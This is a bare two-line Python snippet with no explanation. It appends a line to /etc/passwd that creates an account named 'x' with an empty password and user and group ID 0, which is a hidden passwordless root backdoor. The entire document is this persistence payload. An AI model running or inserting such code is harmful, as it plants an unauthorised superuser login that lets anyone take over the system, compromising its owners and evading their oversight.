with open('/etc/passwd', 'a') as f:
    f.write('x::0:0::/root:/bin/sh\n')
